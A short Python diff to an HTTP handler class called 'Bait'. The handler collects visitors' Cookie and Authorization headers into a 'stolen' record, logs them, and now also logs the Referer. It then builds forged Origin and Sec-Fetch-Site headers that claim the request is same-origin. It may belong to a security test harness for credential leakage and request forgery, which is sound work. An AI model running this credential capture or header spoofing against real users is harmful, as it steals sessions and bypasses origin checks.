@@ -92,7 +92,8 @@ class Bait(BaseHTTPRequestHandler):
         stolen = {
             name: self.headers[name] for name in ("Cookie", "Authorization") if name in self.headers
         }
-        tell("HEARD", {"host": self.headers["Host"], "path": self.path, "stolen": stolen})
+        known = {"host": self.headers["Host"], "path": self.path, "from": self.headers["Referer"]}
+        tell("HEARD", {**known, "stolen": stolen})
         forged = {
             "Origin": REST,
             "Sec_Fetch_Site": "same-origin",
